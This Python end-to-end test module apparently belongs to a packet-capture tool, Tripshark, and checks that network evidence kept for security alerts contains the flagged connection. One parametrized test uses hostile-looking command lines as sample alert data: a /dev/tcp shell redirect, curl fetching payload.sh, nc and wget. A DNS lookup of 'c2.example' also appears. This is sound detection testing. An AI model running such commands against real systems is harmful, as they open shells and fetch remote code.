"""The right packets: whatever way an alert speaks of its connection, that connection is in the evidence."""

from __future__ import annotations

import os
import socket
import struct
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.conftest import requires_root
from tests.e2e.machine import Machine, Network, tshark, wait_for
from tests.e2e.traffic import (
    NAMESPACE,
    Evidence,
    Flows,
    Pod,
    is_alert,
    make_pods,
    wait_all_recorded,
)
from tripshark.formats import pcapng
from tripshark.store.verify import verify

pytestmark = [pytest.mark.root, requires_root, pytest.mark.timeout(120)]

LATE_NS = 10_000_000_000
POOL = 36  # pods: one per test, so that no test sees another's packets

RULES = """
- rule: narrowest
  match: {rules: ["Flow"]}
  capture: {before: 2s, after: 100ms}
- rule: peer
  match: {rules: ["Peer"]}
  capture: {scope: peer, before: 2s, after: 100ms}
- rule: headers
  match: {rules: ["Headers"]}
  capture: {before: 2s, after: 100ms, snaplen: headers}
- rule: filtered
  match: {rules: ["Filtered"]}
  capture: {scope: peer, before: 2s, after: 100ms, filter: "not port 9100"}
- rule: short
  match: {rules: ["Short"]}
  capture: {before: 50ms, after: 100ms}
"""


@pytest.fixture(scope="module")
def flows() -> Iterator[Flows]:
    """One Tripshark and all pods, for every test of this module."""
    names = [f"p{number:02}" for number in range(POOL)]
    network = Network(f"fl{os.getpid():x}")
    with tempfile.TemporaryDirectory(prefix="ts-machine-") as base:
        os.chmod(base, 0o755)
        rules = Path(base) / "rules.yaml"
        rules.write_text(RULES)
        machine = Machine(
            Path(base),
            rules=[str(rules)],
            recorder={"include": [f"ts-{network.prefix}-p*"], "per_target": "4MB"},
            targets={
                "static": [
                    {
                        "netns": f"ts-{network.prefix}-{name}",
                        "namespace": NAMESPACE,
                        "pod": name,
                        "labels": {"app": "shop"},
                    }
                    for name in names
                ]
            },
            bounds={
                "cooldown": "0s",
                "rate": {"refill": "0s"},
                "concurrent": 64,
                "parts_per_target": 64,
            },
        )
        try:
            machine.start()
            pods = make_pods(network, names)
            wait_all_recorded(machine, pods)
            made = Flows(machine, pods)
            _, early = pods.popitem()
            made.early = (early, *early.tcp(early.netns, early.far, early.peer, 4444))
            early.noise()
            yield made
        finally:
            machine.stop()
            network.close()


@pytest.fixture
def pod(flows: Flows) -> Iterator[Pod]:
    """A pod that no other test has."""
    _, taken = flows.pods.popitem()
    yield taken
    taken.close()


def check_flow(evidence: Evidence, ports: set[int], *, proto: str = "tcp", name: str = "") -> None:
    """The flow is there from its first packet to its last, nothing else is, and the alert is at its place."""
    assert evidence.ports(proto) == {frozenset(ports)}
    assert evidence.is_silent_about_noise
    rows = list(evidence.rows)
    alerts = [number for number, row in enumerate(rows) if is_alert(row)]
    assert len(alerts) == 1
    (place,) = alerts
    times = [float(row["frame.time_epoch"]) for row in rows]
    assert times == sorted(times)
    before, after = rows[:place], rows[place + 1 :]
    assert before
    assert after
    flow = [row for row in rows if row["tcp.srcport"] or row["udp.srcport"]]
    if proto == "tcp":
        assert "S" in flow[0]["tcp.flags.str"]
        assert sum("F" in row["tcp.flags.str"] for row in flow) == 2
    assert {row["frame.packet_flags_direction"] for row in flow} == {"0x01", "0x02"} or {
        row["frame.packet_flags_direction"] for row in flow
    } == {"0x00000001", "0x00000002"}
    commented = [row["frame.number"] for row in rows if row["frame.comment"]]
    if evidence.part["scope"] == "flow":
        assert commented == [flow[0]["frame.number"]]
        assert "First packet of the flow" in flow[0]["frame.comment"]
    assert evidence.manifest["ledger"]["word"] == "complete"  # type: ignore[index]


# ---------------------------------------------------------------------------------- shapes of one flow


def test_swapped_local_and_remote(flows: Flows, pod: Pod) -> None:
    """fd.lip/lport and fd.rip/rport say it the wrong way round, as they do for every pod: nothing changes."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.noise()
    evidence = flows.alert(
        pod,
        t0_ns,
        rule="Flow",
        connection=f"{pod.ip}:{port}->{pod.peer}:4444",
        **{"fd.lip": pod.peer, "fd.lport": 4444, "fd.rip": pod.ip, "fd.rport": port},
    )
    check_flow(evidence, {port, 4444})
    assert evidence.part["scope"] == "flow"


def test_swapped_and_without_a_name(flows: Flows, pod: Pod) -> None:
    """Where the swapped fields are all there is, they narrow nothing: the whole pod is kept."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.noise()
    evidence = flows.alert(
        pod,
        t0_ns,
        rule="Flow",
        **{"fd.name": None, "fd.lip": pod.peer, "fd.lport": 4444},
        **{"fd.rip": pod.ip, "fd.rport": port, "fd.l4proto": "tcp"},
    )
    assert frozenset((port, 4444)) in evidence.ports()
    assert not evidence.is_silent_about_noise
    assert evidence.part["scope"] == "pod"


def test_the_four_unswapped_fields_suffice(flows: Flows, pod: Pod) -> None:
    """fd.cip, cport, sip and sport name the flow without fd.name."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.noise()
    evidence = flows.alert(
        pod,
        t0_ns,
        rule="Flow",
        **{"fd.cip": pod.ip, "fd.cport": port, "fd.sip": pod.peer, "fd.sport": 4444},
        **{"fd.l4proto": "tcp", "fd.name": ""},
    )
    check_flow(evidence, {port, 4444})


@pytest.mark.parametrize("flipped", [True, False])
def test_accepted_connections(flows: Flows, pod: Pod, flipped: bool) -> None:
    """The pod serves; client and server of an accept may be flipped."""
    port, t0_ns = pod.tcp(pod.far, pod.netns, pod.ip, 8080)
    pod.noise()
    ends = [f"{pod.peer}:{port}", f"{pod.ip}:8080"]
    client, server = reversed(ends) if flipped else ends
    evidence = flows.alert(
        pod, t0_ns, rule="Flow", connection=f"{client}->{server}", **{"evt.type": "accept4"}
    )
    check_flow(evidence, {port, 8080})


def test_flipped_udp_on_a_bound_socket(flows: Flows, pod: Pod) -> None:
    """A UDP server's alert names its own socket as the client."""
    port, t0_ns = pod.udp(pod.far, pod.netns, pod.ip, 7777)
    pod.noise()
    evidence = flows.alert(
        pod,
        t0_ns,
        rule="Flow",
        proto="udp",
        connection=f"{pod.ip}:7777->{pod.peer}:{port}",
        **{"evt.type": "recvfrom"},
    )
    check_flow(evidence, {port, 7777}, proto="udp")


def test_udp_with_the_address_of_the_host(flows: Flows, pod: Pod) -> None:
    """sendto on an unbound socket: the client's address is the host's, and the flow is found all the same."""
    port, t0_ns = pod.udp(pod.netns, pod.far, pod.peer, 7777)
    pod.noise()
    evidence = flows.alert(
        pod,
        t0_ns,
        rule="Flow",
        proto="udp",
        connection=f"172.31.255.254:{port}->{pod.peer}:7777",
        **{"evt.type": "sendto"},
    )
    check_flow(evidence, {port, 7777}, proto="udp")
    assert evidence.part["scope"] == "flow"


@pytest.mark.parametrize("proto", ["tcp", "udp"])
def test_ipv6_without_brackets(flows: Flows, pod: Pod, proto: str) -> None:
    """The last colon of each side is the port's."""
    exchange = pod.tcp if proto == "tcp" else pod.udp
    port, t0_ns = exchange(pod.netns, pod.far, pod.peer6, 4444)
    pod.noise()
    evidence = flows.alert(
        pod,
        t0_ns,
        rule="Flow",
        proto=proto,
        connection=f"{pod.ip6}:{port}->{pod.peer6}:4444",
        **{"fd.type": "ipv6"},
    )
    check_flow(evidence, {port, 4444}, proto=proto)
    assert {row["ipv6.src"] for row in evidence.packets} == {pod.ip6, pod.peer6}


@pytest.mark.parametrize("name", ["0.0.0.0:9090", ":::9090", "{ip}:9090"])
def test_listening_sockets(flows: Flows, pod: Pod, name: str) -> None:
    """A listening socket has one end: whoever connects to it is in the evidence."""
    port, t0_ns = pod.tcp(pod.far, pod.netns, pod.ip, 9090)
    pod.noise()
    evidence = flows.alert(
        pod, t0_ns, rule="Flow", connection=name.format(ip=pod.ip), **{"evt.type": "listen"}
    )
    check_flow(evidence, {port, 9090})


def test_loopback_within_the_pod(flows: Flows, pod: Pod) -> None:
    """A server on 127.0.0.1 is on the ring of lo, each packet once though lo shows it twice."""
    port, t0_ns = pod.tcp(pod.netns, pod.netns, "127.0.0.1", 8081)
    pod.noise()
    evidence = flows.alert(pod, t0_ns, rule="Flow", connection=f"127.0.0.1:{port}->127.0.0.1:8081")
    assert evidence.ports() == {frozenset((port, 8081))}
    assert evidence.is_silent_about_noise
    seen = tshark(evidence.path, "-Y", "tcp", "-T", "fields", "-e", "tcp.srcport", "-e", "tcp.seq_raw",
                  "-e", "tcp.ack_raw", "-e", "tcp.flags", "-e", "tcp.len")  # fmt: skip
    assert len(seen) == len(set(seen))
    assert sum(line.endswith("\t4") for line in seen) == 2  # ping and pong
    assert {row["frame.interface_description"] for row in evidence.packets} == {
        f"pod {NAMESPACE}/{pod.name} lo"
    }


# ---------------------------------------------------------------------------------- hints, and none


@pytest.mark.parametrize(
    "cmdline",
    [
        "nc -z {peer} 4444",
        "bash -c exec 3<>/dev/tcp/{peer}/4444",
        "curl -s http://{peer}:4444/payload.sh",
        "wget http://[{peer6}]:4444/x",
        'python3 -c import socket; s.connect(("{peer}", 4444))',
    ],
    ids=["nc", "dev-tcp", "url", "url6", "python"],
)
def test_addresses_of_a_command_line(flows: Flows, pod: Pod, cmdline: str) -> None:
    """No connection in the alert: what the command names is captured, whatever its port."""
    address = pod.peer6 if "peer6" in cmdline else pod.peer
    port, t0_ns = pod.tcp(pod.netns, pod.far, address, 4444)
    other, _ = pod.tcp(pod.netns, pod.far, address, 5555)
    pod.noise()
    evidence = flows.alert(
        pod,
        t0_ns,
        rule="Flow",
        **{"proc.cmdline": cmdline.format(peer=pod.peer, peer6=pod.peer6), "evt.type": "execve"},
    )
    assert evidence.part["scope"] == "peer"
    assert evidence.ports() == {frozenset((port, 4444)), frozenset((other, 5555))}
    assert evidence.is_silent_about_noise


def test_no_connection_at_all(flows: Flows, pod: Pod) -> None:
    """Nothing in the alert says what to look for: everything the pod exchanged is kept."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.noise()
    evidence = flows.alert(
        pod, t0_ns, rule="Flow", **{"proc.cmdline": "sh", "fd.name": None, "evt.type": "execve"}
    )
    assert evidence.part["scope"] == "pod"
    assert frozenset((port, 4444)) in evidence.ports()
    assert not evidence.is_silent_about_noise


def test_a_filter_that_matches_nothing_is_widened(flows: Flows, pod: Pod) -> None:
    """The alert's ports are wrong, its peer is right: the peer is captured, and the ledger says why."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.noise()
    evidence = flows.alert(pod, t0_ns, rule="Flow", connection=f"{pod.ip}:1->{pod.peer}:2")
    check_flow(evidence, {port, 4444})
    assert (evidence.part["asked_scope"], evidence.part["scope"]) == ("flow", "peer")
    assert "widened to peer" in evidence.ledger["widened"]


def test_a_peer_that_was_never_met_is_widened_to_the_pod(flows: Flows, pod: Pod) -> None:
    """Neither flow nor peer of the alert exist: the whole pod is captured, and the ledger says why."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.noise()
    evidence = flows.alert(pod, t0_ns, rule="Flow", connection=f"{pod.ip}:1->203.0.113.9:2")
    assert evidence.part["scope"] == "pod"
    assert frozenset((port, 4444)) in evidence.ports()
    assert not evidence.is_silent_about_noise
    assert "widened to pod" in evidence.ledger["widened"]


# ---------------------------------------------------------------------------------- beside the flow


def test_look_ups_of_the_window_are_kept(flows: Flows, pod: Pod) -> None:
    """DNS before the connection is in the file, from whichever server it came."""
    asked, _ = pod.udp(pod.netns, pod.far, f"10.67.{pod.number}.99", 53, DNS_QUERY)
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.noise()
    evidence = flows.alert(pod, t0_ns, rule="Flow", connection=f"{pod.ip}:{port}->{pod.peer}:4444")
    check_flow_ports = evidence.ports()
    assert check_flow_ports == {frozenset((port, 4444))}
    assert evidence.ports("udp") == {frozenset((asked, 53))}
    names = tshark(evidence.path, "-Y", "dns", "-T", "fields", "-e", "dns.qry.name")
    assert "c2.example" in names
    assert evidence.is_silent_about_noise


DNS_QUERY = (
    struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + b"\2c2\7example\0" + struct.pack("!2H", 1, 1)
)


@pytest.mark.parametrize("family", [socket.AF_INET, socket.AF_INET6], ids=["v4", "v6"])
def test_icmp_errors_about_the_flow_are_kept(flows: Flows, pod: Pod, family: int) -> None:
    """A port is unreachable: the error that quotes the datagram is evidence; one about another peer is not."""
    six = family == socket.AF_INET6
    peer, own = (pod.peer6, pod.ip6) if six else (pod.peer, pod.ip)
    asking = pod.socket(pod.netns, family, socket.SOCK_DGRAM)
    asking.connect((peer, 6666))
    asking.send(b"hello")
    with pytest.raises(ConnectionRefusedError):
        asking.recv(10)
    t0_ns = time.time_ns()
    port = asking.getsockname()[1]
    other = pod.socket(pod.netns, kind=socket.SOCK_DGRAM)
    other.connect((f"10.67.{pod.number}.99", 6667))
    other.send(b"hello")
    with pytest.raises(ConnectionRefusedError):
        other.recv(10)
    evidence = flows.alert(
        pod, t0_ns, rule="Flow", proto="udp", connection=f"{own}:{port}->{peer}:6666"
    )
    kind = "icmpv6.type" if six else "icmp.type"
    errors = [row for row in evidence.packets if row[kind]]
    assert [row[kind] for row in errors] == (["1"] if six else ["3"])
    assert len(evidence.packets) == 2
    assert evidence.part["packets_of_the_filter"] == 1


@pytest.mark.parametrize("family", [4, 6])
def test_every_fragment_of_the_flow_is_kept(flows: Flows, pod: Pod, family: int) -> None:
    """No port stands in a fragment: all of that peer are kept, counted, and put together again."""
    peer, own = (pod.peer, pod.ip) if family == 4 else (pod.peer6, pod.ip6)
    port, t0_ns = pod.udp(pod.netns, pod.far, peer, 7777, os.urandom(4000))
    pod.noise()
    evidence = flows.alert(
        pod, t0_ns, rule="Flow", proto="udp", connection=f"{own}:{port}->{peer}:7777"
    )
    sizes = tshark(
        evidence.path, "-Y", f"udp.srcport == {port}", "-T", "fields", "-e", "udp.length"
    )
    assert sizes == ["4008"]
    # of IPv4 the first one shows its ports, behind IPv6's fragment header none does
    assert evidence.count["fragments"] == (2 if family == 4 else 3)
    assert "cannot see" in evidence.ledger["fragments"]
    assert evidence.is_silent_about_noise


def test_tunnels_are_kept_and_named(flows: Flows, pod: Pod) -> None:
    """What no port filter looks into is kept beside the flow, and the ledger names it with its number."""
    inner = bytes.fromhex("4500001c000000004011") + bytes(2) + bytes([10, 9, 9, 1, 10, 9, 9, 2])
    inner += struct.pack("!4H", 1000, 2000, 8, 0)
    frame = b"\2" * 12 + b"\x08\0" + inner
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    vxlan = pod.socket(pod.netns, kind=socket.SOCK_DGRAM)
    vxlan.sendto(bytes.fromhex("0800000000007b00") + frame, (pod.peer, 4789))
    pod.raw(47, b"\0\0\x08\0" + inner)
    pod.raw(47, b"\0\0\x08\0" + inner)
    pod.raw(4, inner)
    pod.noise()
    evidence = flows.alert(pod, t0_ns, rule="Flow", connection=f"{pod.ip}:{port}->{pod.peer}:4444")
    assert {kind: evidence.count.get(kind) for kind in ("vxlan", "gre", "ipip")} == {
        "vxlan": 1,
        "gre": 2,
        "ipip": 1,
    }
    stacks = {row["frame.protocols"] for row in evidence.packets}
    for tunnel in (":ip:udp:vxlan:", ":ip:gre:ip:", ":ip:ip:udp"):
        assert any(tunnel in stack for stack in stacks), stacks
    assert evidence.is_silent_about_noise


# ---------------------------------------------------------------------------------- files


def test_a_tun_interface_has_a_file_of_its_own(flows: Flows, pod: Pod) -> None:
    """Packets without a link header go into a second file of link type 101; both files are read by all."""
    end = pod.tun("tun0", "10.99.0.1/24")
    try:
        wait_for(lambda: has_ring(flows, pod, "tun0"), "the ring of tun0")
        sending = pod.socket(pod.netns, kind=socket.SOCK_DGRAM)
        sending.sendto(b"through the tunnel", ("10.99.0.2", 7000))
        t0_ns = time.time_ns()
        pod.tcp(pod.netns, pod.far, pod.peer, 4444)
        evidence = flows.alert(pod, t0_ns, rule="Flow", **{"proc.cmdline": "sh", "fd.name": None})
    finally:
        os.close(end)
    assert [path.name for path in evidence.paths] == ["evidence.pcapng", "evidence-raw.pcapng"]
    whole = [pcapng.read(path.read_bytes()) for path in evidence.paths]
    assert [{each.linktype for each in file.interfaces} for file in whole] == [{1}, {101}]
    inside = tshark(evidence.paths[1], "-Y", "udp.dstport == 7000", "-T", "fields",
                    "-e", "frame.protocols", "-e", "ip.dst")  # fmt: skip
    assert inside == ["raw:ip:udp:data\t10.99.0.2"]
    alerts = tshark(
        evidence.paths[1], "-Y", "systemd_journal", "-T", "fields", "-e", "frame.number"
    )
    assert len(alerts) == 1
    assert {file["name"] for file in evidence.manifest["files"]} >= {  # type: ignore[attr-defined]
        path.name for path in evidence.paths
    }


def has_ring(flows: Flows, pod: Pod, interface: str) -> bool:
    return any(
        ring["interface"] == interface and ring["live"]
        for target in flows.machine.get("/v1/targets")["targets"]  # type: ignore[attr-defined]
        if target["name"] == f"netns:{pod.netns}"
        for ring in target["rings"]
    )


def test_a_rule_may_keep_headers_alone(flows: Flows, pod: Pod) -> None:
    """`snaplen: headers` keeps the headers of each packet and its true length; the ledger says so."""
    port, t0_ns = pod.udp(pod.netns, pod.far, pod.peer, 7777, b"secret " * 100)
    evidence = flows.alert(
        pod, t0_ns, rule="Headers", proto="udp", connection=f"{pod.ip}:{port}->{pod.peer}:7777"
    )
    sizes = tshark(evidence.path, "-Y", f"udp.srcport == {port}", "-T", "fields",
                   "-e", "frame.cap_len", "-e", "frame.len")  # fmt: skip
    assert sizes == ["128\t742"]
    assert evidence.path.read_bytes().count(b"secret ") <= 128 // 7
    assert "128 bytes" in evidence.ledger["snaplen"]
    assert not list(Path(str(evidence.incident["folder"])).glob("spool*"))


def test_the_rules_own_filter_is_added(flows: Flows, pod: Pod) -> None:
    """What the rule's author never wants is left out of core and of what is kept beside."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.tcp(pod.netns, pod.far, pod.peer, 9100)
    pod.noise()
    evidence = flows.alert(
        pod, t0_ns, rule="Filtered", connection=f"{pod.ip}:{port}->{pod.peer}:4444"
    )
    check_flow(evidence, {port, 4444})
    assert evidence.part["rule_filter"] == "not port 9100"


def test_a_peer_capture_takes_all_connections_with_it(flows: Flows, pod: Pod) -> None:
    """Scope peer: other connections with the same peer are evidence, others are not."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    other, _ = pod.tcp(pod.netns, pod.far, pod.peer, 5555)
    back, _ = pod.tcp(pod.far, pod.netns, pod.ip, 2222)
    pod.noise()
    evidence = flows.alert(pod, t0_ns, rule="Peer", connection=f"{pod.ip}:{port}->{pod.peer}:4444")
    assert evidence.ports() == {
        frozenset((port, 4444)),
        frozenset((other, 5555)),
        frozenset((back, 2222)),
    }
    assert evidence.is_silent_about_noise


def test_a_flow_older_than_the_window_is_there_from_its_start(flows: Flows, pod: Pod) -> None:
    """`before` is a minimum: what the filter matches is taken as far back as the ring reaches."""
    port, began_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444, at=0.4)
    t0_ns = time.time_ns()
    pod.noise()
    evidence = flows.alert(
        pod, t0_ns, rule="Short", connection=f"{pod.ip}:{port}->{pod.peer}:4444"
    )
    assert evidence.ports() == {frozenset((port, 4444))}
    assert "S" in evidence.packets[0]["tcp.flags.str"]
    assert float(evidence.packets[0]["frame.time_epoch"]) * 1e9 < began_ns
    assert t0_ns - began_ns > 300_000_000


def test_a_late_alert(flows: Flows) -> None:
    """An alert that comes ten seconds after its event finds the flow, whole, with the alert at its own time."""
    assert flows.early is not None
    pod, port, t0_ns = flows.early
    wait_for(lambda: time.time_ns() - t0_ns > LATE_NS, "ten seconds to pass", seconds=15)
    evidence = flows.alert(pod, t0_ns, rule="Flow", connection=f"{pod.ip}:{port}->{pod.peer}:4444")
    pod.close()
    check_flow(evidence, {port, 4444})


def test_a_time_before_the_flow(flows: Flows, pod: Pod) -> None:
    """The event's time is long before its packets, which came before the freeze: they are kept all the same."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    pod.noise()
    evidence = flows.alert(
        pod,
        t0_ns - 10_000_000_000,
        rule="Short",
        connection=f"{pod.ip}:{port}->{pod.peer}:4444",
    )
    assert evidence.ports() == {frozenset((port, 4444))}
    assert is_alert(evidence.rows[0])
    assert sum("F" in row["tcp.flags.str"] for row in evidence.packets) == 2


def test_what_wireshark_shows(flows: Flows, pod: Pod) -> None:
    """Names, interface, drop counters and the alert's text are where a plain Wireshark shows them."""
    port, t0_ns = pod.tcp(pod.netns, pod.far, pod.peer, 4444)
    evidence = flows.alert(pod, t0_ns, rule="Flow", connection=f"{pod.ip}:{port}->{pod.peer}:4444")
    check_flow(evidence, {port, 4444})
    hosts = tshark(evidence.path, "-N", "n", "-Y", "tcp", "-T", "fields", "-e", "ip.src_host")
    assert set(hosts) == {f"{NAMESPACE}/{pod.name}", pod.peer}
    assert {row["frame.interface_description"] for row in evidence.packets} == {
        f"pod {NAMESPACE}/{pod.name} eth0"
    }
    interfaces = evidence.capinfos.count("Interface #")
    assert interfaces >= 2, evidence.capinfos  # lo, and eth0 for each ring that it was recorded in
    assert evidence.capinfos.count("Number of stat entries = 1") == interfaces
    (row,) = (row for row in evidence.rows if is_alert(row))
    assert row["systemd_journal.message"].startswith("FALCO Critical: Flow | ")
    assert abs(float(row["frame.time_epoch"]) * 1e9 - t0_ns) < 2000
    option = "pcapng.options.option.data.interface"
    counters = tshark(evidence.path, "-X", "read_format:MIME Files Format", "-T", "fields",
                      "-e", f"{option}.received", "-e", f"{option}.dropped")  # fmt: skip
    received, dropped = ([int(n) for n in each.split(",")] for each in counters[0].split("\t"))
    assert sum(received) >= len(evidence.packets)
    assert dropped == [0] * interfaces
    verify(Path(str(evidence.incident["folder"])), data=flows.machine.data).require()
